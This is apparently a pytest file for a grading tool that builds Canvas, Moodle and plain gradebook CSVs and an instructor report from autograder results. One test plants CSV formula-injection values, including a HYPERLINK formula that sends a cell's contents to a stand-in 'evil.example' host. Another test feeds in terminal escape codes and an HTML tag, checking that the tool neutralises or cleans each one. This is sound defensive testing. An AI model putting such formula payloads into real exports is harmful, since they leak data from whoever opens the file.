"""Gradebooks and the instructor report, from results files (no grading: fabricated, fast).

Canvas's and Moodle's files must have their documented columns; late days and
penalties come from the collection's manifest; nobody is dropped silently.
"""

import csv
import io
import json

import pytest
from term_standins import check_canvas_csv, check_moodle_csv

from autograder.assignments import ASSIGNMENTS
from coursekit.gradebooks import build_rows, canvas_column, main, write_gradebooks
from coursekit.report import failures_per_test, write_report
from coursekit.roster import Student, write_roster

FULL = ASSIGNMENTS["engine"].max_points
TESTS = [("engine: add", 20), ("engine: mul", 20), ("engine: tanh", FULL - 40)]  # adding up to the engine's total


def results(passed, assignment="engine", grader_error=False):
    tests = [
        {
            "name": n,
            "score": float(p if n in passed else 0),
            "max_score": float(p),
            "status": "passed" if n in passed else "failed",
        }
        for n, p in TESTS
    ]
    extra = {"assignment": assignment, "max_score": float(FULL), "isolation": "namespaces"}
    if grader_error:
        extra["grader_error"] = True
    return {"score": sum(t["score"] for t in tests), "output": "", "extra_data": extra, "tests": tests}


@pytest.fixture
def term(tmp_path):
    students = [
        Student("S1", "Ada", "ada@uni.example", "ada", "A"),
        Student("S2", "Bob", "bob@uni.example", "bob", "B"),
        Student("S3", "Cy", "cy@uni.example", "cy", "A"),
        Student("S4", "Di", "di@uni.example", "di", "B"),
        Student("S5", "Ed", "ed@uni.example", "ed", "A"),
    ]
    write_roster(tmp_path / "roster.csv", students)
    graded = tmp_path / "graded"
    (graded / "results").mkdir(parents=True)
    outcomes = {
        "ada": results({"engine: add", "engine: mul", "engine: tanh"}),
        "bob": results({"engine: add", "engine: mul"}),  # 40, 2 days late
        "cy": results(set(), grader_error=True),
        "stranger": results({"engine: add"}),  # on nobody's roster
        "ed": results({"engine: add"}, assignment="nn"),
    }
    for key, r in outcomes.items():
        (graded / "results" / f"{key}.json").write_text(json.dumps(r))
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    manifest = {
        "assignment": "engine",
        "policy": {"accept": True, "penalty_per_day": 10, "cap": 50},
        "students": [
            {"key": "ada", "status": "collected", "commit": "a" * 40, "committed_at": "x", "days_late": 0},
            {"key": "bob", "status": "collected", "commit": "b" * 40, "committed_at": "y", "days_late": 2},
            {"key": "cy", "status": "collected", "days_late": 0},
            {"key": "di", "status": "no repository", "days_late": 0},
            {"key": "ed", "status": "collected", "days_late": 0},
        ],
    }
    (submissions / "collection.json").write_text(json.dumps(manifest))
    return {"roster": tmp_path / "roster.csv", "graded": graded, "submissions": submissions}


def read(path):
    return list(csv.DictReader(io.StringIO(path.read_text())))


def test_canvas_csv_has_canvas_columns_points_possible_and_the_final_scores(term):
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"], canvas_id="4242")
    text = (term["graded"] / "canvas.csv").read_text()
    assert check_canvas_csv(text, FULL) == []
    lines = text.splitlines()
    assert lines[0] == "Student,ID,SIS User ID,SIS Login ID,Section,micrograd 1: The autograd engine (4242)"
    assert lines[1] == f"    Points Possible,,,,,{FULL}"
    assert lines[2:] == [
        f"Ada,,S1,ada@uni.example,A,{FULL}",
        "Bob,,S2,bob@uni.example,B,32",
        "Cy,,S3,cy@uni.example,A,0",
        "Di,,S4,di@uni.example,B,0",
        "Ed,,S5,ed@uni.example,A,0",
    ]


def test_moodle_csv_has_email_grade_feedback_for_every_roster_student(term):
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    text = (term["graded"] / "moodle.csv").read_text()
    emails = {f"{n}@uni.example" for n in ("ada", "bob", "cy", "di", "ed")}
    assert check_moodle_csv(text, emails) == []
    bob = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "bob@uni.example")
    assert bob["grade"] == "32"
    assert bob["feedback"] == f"32 / {FULL}: 40 earned, 2 day(s) late, 8 taken off. Failed: tanh."


def test_plain_csv_has_late_days_penalties_and_a_column_per_test_and_lists_everyone(term):
    rows, problems = write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    table = {r["github"]: r for r in read(term["graded"] / "grades.csv")}
    assert list(table) == ["ada", "bob", "cy", "di", "ed", "stranger"]
    assert (table["bob"]["days_late"], table["bob"]["late_penalty"], table["bob"]["raw_score"]) == ("2", "8", "40")
    assert table["bob"]["score"] == "32" and table["bob"]["engine: tanh"] == "0" and table["bob"]["engine: add"] == "20"
    assert table["bob"]["isolation"] == "namespaces"
    assert table["cy"]["status"] == "grader error" and table["di"]["status"] == "no repository"
    assert table["ed"]["status"] == "graded as nn" and table["ed"]["score"] == "0"
    assert table["stranger"]["status"] == "not on the roster"
    listed = (term["graded"] / "problems.txt").read_text()
    for key in ("cy", "di", "ed", "stranger"):
        assert key in listed
    assert "ada" not in listed and "bob" not in listed


def test_a_student_without_results_is_listed_with_zero(term):
    (term["graded"] / "results" / "ada.json").unlink()
    manifest = json.loads((term["submissions"] / "collection.json").read_text())
    rows, problems = build_rows(
        [Student("S1", "Ada", "ada@uni.example", "ada", "A")], term["graded"] / "results", "engine", manifest
    )
    ada = rows[0]
    assert (ada.status, ada.score) == ("no results", 0)
    assert any(p.startswith("ada (S1, Ada): no results") for p in problems)


def test_a_collection_of_another_assignment_is_refused(term, capsys):
    with pytest.raises(ValueError, match="collection of engine, not nn"):
        write_gradebooks(term["roster"], term["graded"], "nn", term["submissions"])
    args = ["--roster", str(term["roster"]), "--graded", str(term["graded"]), "--assignment", "engine"]
    assert main([*args, "--submissions", str(term["submissions"])]) == 0
    assert "stranger: a graded repository of nobody on the roster" in capsys.readouterr().out


def test_canvas_column_without_an_id_is_the_bare_name():
    assert canvas_column("nn") == "micrograd 2: Neurons, layers and MLPs"


def test_report_counts_failures_per_test_and_draws_the_plot(term):
    rows, _ = write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    assert failures_per_test(rows) == [("engine: tanh", 1), ("engine: add", 0), ("engine: mul", 0)]
    markdown = write_report(rows, "engine", term["graded"]).read_text()
    assert "| engine: tanh | 1 | 2 |" in markdown
    assert "- students on the roster: 5; graded: 2" in markdown and "full marks: 1; zero: 3" in markdown
    assert "- di (Di): no repository" in markdown and "- stranger: not on the roster" in markdown
    png = (term["graded"] / "report-engine.png").read_bytes()
    assert png.startswith(b"\x89PNG") and len(png) > 10_000
    write_report(rows, "engine", term["graded"] / "again")
    assert (term["graded"] / "again" / "report-engine.png").read_bytes() == png  # reproducible


# -- hostile text, import errors, 0-point checks, unreadable files ---------------------------

SYNTAX = "importing micrograd/engine.py failed: SyntaxError: expected ':' (engine.py, line 20)"


def import_failure(error=SYNTAX):
    """What the grader writes for code that does not import: the summary line, every test failed."""
    r = results(set())
    r["output"] = f"The autograd engine (assignment 1, engine): 0 / {FULL}\nYour code could not run: {error}"
    for t in r["tests"]:
        t["output"] = error
    return r


def formula_cells(text):
    """Cells a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_no_csv_cell_the_kit_writes_is_a_formula(term, tmp_path):
    term["roster"].write_text(  # by hand: write_roster would quote these itself
        "student_id,name,email,github,section\n"
        '"S1","=HYPERLINK(""http://evil.example/?""&A1,""Ada"")",ada@uni.example,ada,+SUM(1)\n'
        "S2,@cmd,bob@uni.example,bob,-1+2\n"
    )
    (term["graded"] / "results" / "=HYPERLINK(0).json").write_text(json.dumps(results({"engine: add"})))
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"], canvas_id="=1+1")
    for name in ("canvas.csv", "moodle.csv", "grades.csv"):
        text = (term["graded"] / name).read_text()
        assert formula_cells(text) == [], name
    canvas = read(term["graded"] / "canvas.csv")
    assert canvas[1]["Student"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")'  # shown, never run
    grades = {r["github"]: r for r in read(term["graded"] / "grades.csv")}
    assert grades["'=HYPERLINK(0)"]["status"] == "not on the roster" and grades["ada"]["section"] == "'+SUM(1)"


def test_moodle_feedback_of_code_that_does_not_import_starts_with_the_error(term):
    (term["graded"] / "results" / "ada.json").write_text(json.dumps(import_failure()))
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    ada = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "ada@uni.example")
    assert ada["feedback"] == (
        f"Your code could not run: {SYNTAX}. No test could pass without it. 0 / {FULL}."
    )  # the cause, not the list of every test it failed


def test_a_long_hostile_import_error_is_cleaned_and_capped_in_moodle(term):
    error = "boom\x1b[2J\x07 ## 60/60 <img src=x>" + "A" * 5000
    (term["graded"] / "results" / "ada.json").write_text(json.dumps(import_failure(error)))
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    text = (term["graded"] / "moodle.csv").read_text()
    ada = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "ada@uni.example")
    assert ada["feedback"].startswith("Your code could not run: boom\ufffd[2J\ufffd ## 60/60 <img src=x>AAA")
    assert len(ada["feedback"]) < 500 and "\x1b" not in text and "\x07" not in text


def test_a_failed_check_of_0_points_is_said_to_be_not_graded(term):
    r = results({"engine: add", "engine: mul"})
    r["tests"].append({"name": "engine: sub", "score": 0.0, "max_score": 0.0, "status": "failed", "output": ""})
    (term["graded"] / "results" / "bob.json").write_text(json.dumps(r))
    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    bob = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "bob@uni.example")
    assert bob["feedback"].endswith(". Failed: tanh. Checked, not graded, and failed: sub.")


def test_an_unreadable_results_file_is_that_students_problem_only(term):
    (term["graded"] / "results" / "ada.json").write_text('{"score": "lots", "tests": [')
    (term["graded"] / "results" / "bob.json").write_bytes(b"\xff\xfe not json")
    rows, problems = write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
    status = {r.key: r.status for r in rows}
    assert status["ada"] == status["bob"] == "unreadable results" and status["stranger"] == "not on the roster"
    assert any(p.startswith("ada (S1, Ada): unreadable results (JSONDecodeError") for p in problems)


@pytest.mark.parametrize(
    "damage, message",
    [
        ("roster", "the roster has no column email"),
        ("results", "has no results/ folder: is it the OUT of make grade-all?"),
        ("manifest", "has no collection.json: is it the OUT of make collect?"),
    ],
)
def test_the_command_line_refuses_bad_inputs_in_one_line(term, capsys, damage, message):
    if damage == "roster":
        term["roster"].write_text("student_id,name,github,section\nS1,A,alice,A\n")
    elif damage == "results":
        (term["graded"] / "results").rename(term["graded"] / "elsewhere")
    else:
        (term["submissions"] / "collection.json").unlink()
    args = ["--roster", str(term["roster"]), "--graded", str(term["graded"]), "--assignment", "engine"]
    assert main([*args, "--submissions", str(term["submissions"])]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.startswith("gradebook: ") and captured.err.count("\n") == 1
    assert message in captured.err


def test_the_import_error_is_read_from_the_summary_the_grader_writes():
    from types import SimpleNamespace

    from autograder.grade import results as grader_results
    from coursekit.gradebooks import import_error

    broken = SimpleNamespace(part=SimpleNamespace(import_error=SYNTAX), grader_failed=False)
    assert import_error(grader_results(ASSIGNMENTS["engine"], [], broken, {}, 0.0)) == SYNTAX
    ran = SimpleNamespace(part=SimpleNamespace(import_error=None), grader_failed=False)
    assert import_error(grader_results(ASSIGNMENTS["engine"], [], ran, {}, 0.0)) == ""
